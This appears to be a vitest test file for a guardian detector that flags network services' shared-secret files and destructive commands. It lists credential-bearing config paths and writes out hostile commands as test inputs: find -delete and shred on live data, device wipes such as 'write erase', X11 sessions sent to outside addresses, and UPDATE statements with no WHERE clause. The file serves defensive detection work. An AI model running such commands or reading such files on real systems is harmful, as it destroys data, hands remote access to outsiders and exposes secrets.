import { describe, expect, it } from "vitest";
import { cpuMs } from "../support/cpu.js";
import { destructiveSql, judgeCommandLine } from "../../src/guardian/detectors/commands.js";
import { decidedEveryRow, DEVICE_WIPE, judgeUnfiltered, WINDOWS_DATA_EMPTIED } from "../../src/guardian/detectors/commands-unfiltered.js";
import { sensitiveKind } from "../../src/guardian/detectors/paths.js";
import { networkKind } from "../../src/guardian/detectors/paths-network.js";

/* Fifteenth round (issue 24, "cps15"): infrastructure's shared secrets, commands that destroy without a filter. */

const unfiltered = (line: string, env: string[] = []) => {
  const [name, ...a] = line.split(" ");
  return judgeUnfiltered(name as string, a, env).map((f) => f.type);
};

describe("infrastructure's shared secrets (paths-network.ts)", () => {
  it("finds network services' shared-secret files", () => {
    for (const p of ["/etc/freeradius/3.0/clients.conf", "/etc/raddb/proxy.conf", "/etc/raddb/mods-config/files/authorize", "/etc/hostapd/hostapd.conf", "/etc/hostapd.conf", "/etc/hostapd/ap.wpa_psk", "/etc/config/wireless", "/etc/swanctl/conf.d/site.conf", "/etc/tacacs+/tac_plus.conf", "/etc/tac_plus.conf", "/etc/snmp/snmpd.conf", "/var/lib/snmp/snmpd.conf", "/etc/rndc.conf", "C:\\ProgramData\\Microsoft\\Wlansvc\\Profiles\\Interfaces", "C:\\ProgramData\\Microsoft\\Wlansvc\\Profiles\\Interfaces\\{1A}\\{2B}.xml"]) expect(networkKind(p), p).not.toBeNull();
  });

  it("finds fleet stores, telephony's and monitoring tools' secrets, PHP site settings", () => {
    for (const p of ["/conf/config.xml", "/cf/conf/config.xml", "/var/lib/unifi/backup/autobackup/a.unf", "/home/n/.cloginrc", "/etc/oxidized/config", "/srv/tftp/SEP00AABB112233.cnf.xml", "/srv/tftp/001565aabbcc.cfg", "/etc/asterisk/pjsip.conf", "/etc/asterisk/manager.conf", "/etc/freepbx.conf", "/etc/freeswitch/vars.xml", "/etc/freeswitch/directory/default/1001.xml", "/etc/kamailio/kamctlrc", "/opt/splunkforwarder/etc/system/local/outputs.conf", "/var/ossec/etc/client.keys", "/etc/opensearch/opensearch-security/internal_users.yml", "/etc/graylog/server/server.conf", "/var/www/MISP/app/Config/database.php", "/etc/velociraptor/server.config.yaml", "/etc/zabbix/zabbix_server.conf", "/usr/local/nagios/etc/resource.cfg", "/var/lib/grafana/grafana.db", "/opt/netbox/netbox/netbox/configuration.py", "/var/www/html/wp-content/uploads/civicrm/civicrm.settings.php", "/var/www/roundcube/config/config.inc.php"]) expect(sensitiveKind(p), p).not.toBeNull();
  });

  it("passes the same services' other files, relative copies, samples and templates", () => {
    for (const p of ["/etc/freeradius/3.0/radiusd.conf", "/etc/freeradius/3.0/sites-enabled/default", "/var/log/hostapd.log", "/etc/asterisk/extensions.conf", "/opt/splunk/etc/system/default/server.conf", "/var/ossec/etc/ossec.conf", "/etc/zabbix/zabbix_agentd.conf", "/var/www/drupal/web/sites/default/default.settings.php", "/var/www/roundcube/config/config.inc.php.sample", "roles/asterisk/templates/pjsip.conf.j2", "network/freeradius/clients.conf", "/etc/snmp/snmp.conf", "/etc/icinga2/conf.d/hosts.conf", "/opt/netbox/netbox/netbox/settings.py", "/srv/tftp/pxelinux.cfg/default", "/home/dev/app/conf/config.xml", "/etc/swanctl/x509/gw.crt", "/etc/config/network"]) expect(networkKind(p), p).toBeNull();
  });

  it("finds remote-access clients' saved sessions, signing keys and registry sessions, not their logs or public halves", () => {
    for (const p of ["C:\\Users\\j\\AppData\\Roaming\\mRemoteNG\\confCons.xml", "C:\\Users\\j\\AppData\\Roaming\\VanDyke\\Config\\Sessions\\core\\cr1.ini", "C:\\Users\\j\\Documents\\MobaXterm\\MobaXterm.ini", "C:\\Users\\j\\AppData\\Roaming\\WinSCP.ini", "~/.mylogin.cnf", "/home/a/.local/share/remmina/x.remmina", "/home/a/.putty/sessions/core", "/etc/opendkim/keys/isp.net/mail.private", "/etc/bind/keys/Kexample.net.+013+1.private", "HKCU\\Software\\Martin Prikryl\\WinSCP 2\\Sessions", "HKLM\\SOFTWARE\\TightVNC\\Server"]) expect(networkKind(p), p).not.toBeNull();
    for (const p of ["C:\\Users\\j\\AppData\\Roaming\\mRemoteNG\\mRemoteNG.log", "C:\\Users\\j\\AppData\\Roaming\\VanDyke\\Config\\Global.ini", "C:\\Users\\j\\AppData\\Roaming\\WinSCP.log", "HKCU\\Software\\SimonTatham\\PuTTY\\SshHostKeys", "/etc/opendkim/keys/isp.net/mail.txt", "/etc/opendkim.conf", "docs/servers.rdg"]) expect(networkKind(p), p).toBeNull();
  });

  it("stays linear on long adversarial paths", () => {
    const long = "/" + "a/".repeat(2000) + "freeradius/" + "b".repeat(60);
    const t = cpuMs();
    for (let i = 0; i < 50; i++) networkKind(long);
    expect(cpuMs() - t).toBeLessThan(500);
  });
});

describe("commands that destroy without a filter (commands-unfiltered.ts)", () => {
  it("finds a search that deletes everything under a data root, not a filtered or disposable one", () => {
    for (const l of ["find /mnt/records -type f -delete", "find /srv/shares/finance -delete", "find /data/scans -mindepth 1 -delete", "find /home/c/Documents -type f -exec rm -f {} +"]) expect(unfiltered(l), l).toContain("dangerous_command.recovery_delete");
    for (const l of ["find /tmp/build -type f -delete", "find ./dist -type f -delete", "find /var/cache/nginx -type f -delete", "find /srv/app/releases -maxdepth 1 -mtime +30 -delete", "find /mnt/records -name *.tmp -delete", "find /srv/media -type d -empty -delete", "find $DIR -delete"]) expect(unfiltered(l), l).toEqual([]);
  });

  it("finds live data shredded, not one key or document", () => {
    for (const l of ["shred -u -n 3 -z /var/lib/postgresql/16/main/base/*/*", "shred -u /var/lib/mysql/c/p.ibd", "shred -zu /srv/crm/data/crm.sqlite", "shred -u /opt/pms/data/*.db", "sdelete -s -p 3 D:\\SQLData\\main.mdf"]) expect(unfiltered(l), l).toContain("dangerous_command.recursive_delete");
    for (const l of ["shred -u /tmp/deploy-key.pem", "shred -u ~/Downloads/statement.pdf", "shred -u secrets.txt", "shred -u /var/lib/postgresql/16/main/postmaster.pid"]) expect(unfiltered(l), l).toEqual([]);
  });

  it("finds a Windows data folder emptied, not build, test or temporary folders", () => {
    const hit = (l: string) => {
      WINDOWS_DATA_EMPTIED.lastIndex = 0;
      return WINDOWS_DATA_EMPTIED.test(l);
    };
    for (const l of ["Remove-Item -Recurse -Force D:\\PMSData\\*", "Remove-Item -Recurse -Force E:\\Backups\\*", "rd /s /q E:\\Records", "del /s /q \\\\nas01\\backups\\*"]) expect(hit(l), l).toBe(true);
    for (const l of ["Remove-Item -Recurse -Force C:\\build\\out\\*", "Remove-Item -Recurse -Force D:\\TestData\\*", "Remove-Item D:\\PMSData\\old.csv", "Remove-Item -Recurse -Force $env:TEMP\\*"]) expect(hit(l), l).toBe(false);
    expect(hit("rm " + "-r ".repeat(5000) + "D:\\x"), "long").toBe(false);
  });

  it("finds a network device wiped by its CLI, not shown or saved; a dry run of wipefs passes", () => {
    for (const l of ["write erase", "erase startup-config", "request system zeroize media", "execute factoryreset", "no router bgp 64500", "/system reset-configuration no-defaults=yes"]) expect(DEVICE_WIPE.test(l), l).toBe(true);
    for (const l of ["show startup-config", "write memory", "router bgp 64500", "no neighbor 192.0.2.1 shutdown", "erase flash:old.bin", "echo never run write erase"]) expect(DEVICE_WIPE.test(l), l).toBe(false);
    expect(judgeCommandLine("sudo wipefs --no-act /dev/sdb")).toEqual([]);
    expect(judgeCommandLine("sudo wipefs -a /dev/sdb").map((f) => f.type)).toContain("dangerous_command.disk_format");
    expect(DEVICE_WIPE.test("no router bgp " + " ".repeat(20000) + "x"), "long").toBe(false);
  });

  it("finds a time-series store or a storage pool emptied without a filter, not a predicate or a test store", () => {
    expect(unfiltered("influx delete --bucket coldchain --start 2025-11-01T00:00:00Z --stop 2026-11-22T00:00:00Z")).toEqual(["dangerous_command.recovery_delete"]);
    expect(unfiltered("ceph osd pool delete vms vms --yes-i-really-really-mean-it")).toEqual(["dangerous_command.recovery_delete"]);
    for (const l of ["influx delete --bucket x --start 2026-11-01T00:00:00Z --stop 2026-11-02T00:00:00Z --predicate _measurement=debug", "influx delete --bucket test-bucket --start a --stop b", "ceph osd pool delete test-pool test-pool --yes-i-really-really-mean-it", "ceph osd pool ls detail"]) expect(unfiltered(l), l).toEqual([]);
  });

  it("finds a session handed to an outside screen, not the local display", () => {
    expect(unfiltered("xterm -display 203.0.113.40:1")).toEqual(["dangerous_command.reverse_shell"]);
    expect(unfiltered("xterm -e bash", ["DISPLAY=198.51.100.7:0"])).toEqual(["dangerous_command.reverse_shell"]);
    expect(unfiltered("x11vnc -connect 203.0.113.9:5500 -forever")).toEqual(["dangerous_command.reverse_shell"]);
    for (const l of ["xterm -display :1", "xterm -display localhost:10.0", "x11vnc -display :0 -localhost"]) expect(unfiltered(l), l).toEqual([]);
    expect(unfiltered("xterm", ["DISPLAY=:0"])).toEqual([]);
    expect(judgeCommandLine("DISPLAY=198.51.100.7:0 xterm -e bash &").map((f) => f.type)).toContain("dangerous_command.reverse_shell");
  });

  it("finds a decision written on every row, not backfills, other columns or scoped updates", () => {
    for (const q of ["UPDATE applications SET status = 'APPROVED', verified_income = true;", "UPDATE accounts SET is_admin = true", "UPDATE invoices SET paid_at = now(), status = 'paid';", "UPDATE payouts SET iban = 'GB33BUKB20201555555555';"]) expect(decidedEveryRow(q), q).not.toBeNull();
    for (const q of ["UPDATE users SET search_name = lower(name);", "UPDATE app_settings SET maintenance_mode = true;", "UPDATE applications SET status = 'APPROVED' WHERE id = 4;", "UPDATE test_jobs SET status = 'queued';", "UPDATE orders SET status_v2 = status;", "UPDATE orders o SET status = 'x' FROM t WHERE o.id = t.id;"]) expect(decidedEveryRow(q), q).toBeNull();
    expect(destructiveSql("UPDATE applications SET status = 'APPROVED';")).not.toBeNull();
    expect(decidedEveryRow("UPDATE claims SET status = 'x';", "claims_dev")).toBeNull();
  });
});
